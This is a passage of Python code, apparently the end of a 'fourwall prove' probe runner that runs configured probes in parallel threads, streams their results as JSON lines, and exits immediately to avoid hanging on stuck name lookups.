        sys.stderr.write(f"fourwall prove: the probe program cannot write its results: {error}\n")
        sys.exit(3)
    lock = threading.Lock()

    def emit(line):
        with lock:
            out.write(json.dumps(line) + "\n")
            out.flush()

    started = time.monotonic()
    # The probes are independent and mostly wait (on the kernel, a socket, a subprocess): run them
    # side by side so the whole suite stays within a few seconds.
    with ThreadPoolExecutor(max_workers=12) as pool:
        for line in pool.map(run_one, CFG["probes"]):
            emit(line)
    emit({"done": True, "ms": int((time.monotonic() - started) * 1000)})
    out.flush()
    # Skip interpreter shutdown: a name lookup stuck in a daemon thread must not hold the exit.
    os._exit(0)


main()
